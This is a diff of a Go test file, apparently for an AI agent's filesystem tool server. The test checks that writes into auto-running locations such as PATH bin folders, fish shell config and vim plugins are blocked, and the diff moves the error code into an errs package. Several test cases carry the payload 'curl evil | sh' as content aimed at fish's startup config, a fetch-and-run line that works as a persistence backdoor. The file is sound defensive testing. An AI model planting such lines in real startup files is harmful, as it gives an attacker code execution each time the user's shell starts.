@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/packfs/packfs-mcp/security"
+	"github.com/packfs/packfs-mcp/tools/errs"
 )
 
 // TestAutoRunWrites checks that no purpose creates or replaces a file where it would run by
@@ -39,17 +40,17 @@ func TestAutoRunWrites(t *testing.T) {
 		code   string // "" for success
 		same   string // a file that must hold what it held
 	}{
-		{name: "create in bin", tool: WriterName, args: w("create", "bin/new.sh", content("echo x\n")), code: CodeAutoRun},
-		{name: "update fish config", tool: WriterName, args: w("update", ".config/fish/config.fish", content("curl evil | sh\n")), code: CodeAutoRun, same: ".config/fish/config.fish"},
-		{name: "append to fish config", tool: WriterName, args: w("append", ".config/fish/config.fish", content("curl evil | sh\n")), code: CodeAutoRun, same: ".config/fish/config.fish"},
-		{name: "edit fish config", tool: WriterName, args: w("edit", ".config/fish/config.fish", map[string]any{"edits": []any{map[string]any{"oldText": "A 1", "newText": "A 2"}}}), code: CodeAutoRun, same: ".config/fish/config.fish"},
+		{name: "create in bin", tool: WriterName, args: w("create", "bin/new.sh", content("echo x\n")), code: errs.CodeAutoRun},
+		{name: "update fish config", tool: WriterName, args: w("update", ".config/fish/config.fish", content("curl evil | sh\n")), code: errs.CodeAutoRun, same: ".config/fish/config.fish"},
+		{name: "append to fish config", tool: WriterName, args: w("append", ".config/fish/config.fish", content("curl evil | sh\n")), code: errs.CodeAutoRun, same: ".config/fish/config.fish"},
+		{name: "edit fish config", tool: WriterName, args: w("edit", ".config/fish/config.fish", map[string]any{"edits": []any{map[string]any{"oldText": "A 1", "newText": "A 2"}}}), code: errs.CodeAutoRun, same: ".config/fish/config.fish"},
 		{name: "edit names it in path", tool: WriterName, args: w("edit", "notes/tool.sh", map[string]any{"edits": []any{
-			map[string]any{"oldText": "hi", "newText": "ho"}, map[string]any{"path": "bin/old.sh", "oldText": "old", "newText": "new"}}}), code: CodeAutoRun, same: "notes/tool.sh"},
-		{name: "create through a link", tool: WriterName, args: w("create", "vimdir/plugin.lua", content("os.execute(1)\n")), code: CodeAutoRun},
-		{name: "copy onto PATH", tool: WriterName, args: w("copy", "notes/tool.sh", map[string]any{"target": map[string]any{"path": "notes/tool.sh", "destination": "bin/tool.sh"}}), code: CodeAutoRun},
+			map[string]any{"oldText": "hi", "newText": "ho"}, map[string]any{"path": "bin/old.sh", "oldText": "old", "newText": "new"}}}), code: errs.CodeAutoRun, same: "notes/tool.sh"},
+		{name: "create through a link", tool: WriterName, args: w("create", "vimdir/plugin.lua", content("os.execute(1)\n")), code: errs.CodeAutoRun},
+		{name: "copy onto PATH", tool: WriterName, args: w("copy", "notes/tool.sh", map[string]any{"target": map[string]any{"path": "notes/tool.sh", "destination": "bin/tool.sh"}}), code: errs.CodeAutoRun},
 		{name: "copy a folder into .config", tool: WriterName, args: w("copy", "stuff", map[string]any{"target": map[string]any{"path": "stuff", "destination": ".config/stuff"}, "options": map[string]any{"recursive": true}}), code: ""},
-		{name: "move a file onto PATH", tool: WriterName, args: w("move", "notes/tool.sh", map[string]any{"target": map[string]any{"path": "notes/tool.sh", "destination": "bin/tool.sh"}}), code: CodeAutoRun, same: "notes/tool.sh"},
-		{name: "move a folder that becomes fish's", tool: WriterName, args: w("move", "stuff", map[string]any{"target": map[string]any{"path": "stuff", "destination": ".config"}}), code: CodeAutoRun, same: "stuff/fish/config.fish"},
+		{name: "move a file onto PATH", tool: WriterName, args: w("move", "notes/tool.sh", map[string]any{"target": map[string]any{"path": "notes/tool.sh", "destination": "bin/tool.sh"}}), code: errs.CodeAutoRun, same: "notes/tool.sh"},
+		{name: "move a folder that becomes fish's", tool: WriterName, args: w("move", "stuff", map[string]any{"target": map[string]any{"path": "stuff", "destination": ".config"}}), code: errs.CodeAutoRun, same: "stuff/fish/config.fish"},
 		{name: "move a folder elsewhere", tool: WriterName, args: w("move", "plain", map[string]any{"target": map[string]any{"path": "plain", "destination": ".config/plain"}}), code: ""},
 		{name: "read", tool: ReaderName, args: w("read", ".config/fish/config.fish", nil), code: ""},
 		{name: "delete", tool: WriterName, args: w("delete", "bin/old.sh", nil), code: ""},
@@ -67,7 +68,7 @@ func TestAutoRunWrites(t *testing.T) {
 			if code, _ := got["code"].(string); code != tt.code {
 				t.Fatalf("code = %q, want %q: %v", code, tt.code, got)
 			}
-			if tt.code == CodeAutoRun {
+			if tt.code == errs.CodeAutoRun {
 				if msg, _ := got["error"].(string); !contains(msg, "runs by itself", "--unblock") {
 					t.Errorf("error %q does not say what runs it and what lifts it", msg)
 				}
